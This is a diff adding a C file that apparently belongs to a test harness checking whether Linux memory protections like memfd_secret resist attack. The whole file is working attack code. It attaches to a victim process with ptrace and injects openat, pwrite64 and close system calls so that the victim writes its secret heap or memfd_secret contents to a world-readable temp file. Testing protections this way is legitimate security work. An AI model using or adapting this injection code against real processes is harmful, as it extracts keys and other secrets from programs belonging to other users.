@@ -1,0 +1,97 @@
+/*
+ * code.c - a tracer that makes the victim itself hand out its secret: what no protection of pages stops.
+ */
+#include "attack.h"
+
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "arch.h"
+
+/* One system call by a stopped thread. */
+static long make_call(pid_t pid, const struct user_regs_struct *from, long number, const uint64_t args[4])
+{
+	struct user_regs_struct regs = *from;
+	int status;
+
+	arch_call(&regs, number, args);
+	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0L, 0L) < 0)
+		return -errno;
+	if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status))
+		return -ESRCH;
+	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
+		return -errno;
+	return (long)regs.rax;
+}
+
+static int poke_text(pid_t pid, unsigned long long at, const char *text)
+{
+	for (size_t i = 0; i <= strlen(text); i += sizeof(long)) {
+		long word = 0;
+
+		memcpy(&word, text + i, strnlen(text + i, sizeof(word)));
+		if (ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)(at + i), (void *)word) < 0)
+			return -errno;
+	}
+	return 0;
+}
+
+/* open(path), pwrite(it, secret), close(it): as if the victim had wanted to. */
+static long make_it_write(const struct attack *a, pid_t pid, const char *path, unsigned long long secret)
+{
+	struct user_regs_struct regs;
+	long fd = poke_text(pid, a->target.scratch, path), written;
+
+	if (fd < 0)
+		return fd;
+	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
+		return -errno;
+	fd = make_call(pid, &regs, SYS_openat,
+		       (const uint64_t[4]){ (uint64_t)AT_FDCWD, a->target.scratch, O_WRONLY, 0 });
+	written = fd;
+	if (fd >= 0) {
+		written = make_call(pid, &regs, SYS_pwrite64,
+				    (const uint64_t[4]){ (uint64_t)fd, secret, a->target.length, 0 });
+		(void)make_call(pid, &regs, SYS_close, (const uint64_t[4]){ (uint64_t)fd, 0, 0, 0 });
+	}
+	(void)ptrace(PTRACE_SETREGS, pid, NULL, &regs);
+	return written;
+}
+
+static int inject(struct attack *a)
+{
+	unsigned long long secret = a->row->text[0] == 's' ? a->target.secretmem : a->target.heap;
+	char path[] = "/tmp/attack.XXXXXX";
+	pid_t pid = a->target.pid;
+	long written;
+	int fd, result;
+
+	if (secret == 0)
+		return not_here(a, "no memfd_secret");
+	fd = mkstemp(path);
+	if (fd < 0 || fchmod(fd, 0666) < 0)
+		return not_here(a, "no file");
+	result = trace(pid, a->row->number);
+	if (result == 0) {
+		written = make_it_write(a, pid, path, secret);
+		untrace(pid);
+		result = written < 0 ? (int)written : saw_file(a, fd);
+	}
+	(void)unlink(path);
+	return result;
+}
+
+const struct row code_rows[] = {
+	{ .name = "inject_heap", .vector = "ptrace_attach", .what = "system calls injected: the victim writes its secret to a file",
+	  .run = inject, .text = "h", .number = BY_ATTACH },
+	{ .name = "inject_secretmem", .vector = "ptrace_attach", .what = "the same, from memfd_secret", .run = inject,
+	  .text = "s", .number = BY_SEIZE },
+	{ 0 },
+};
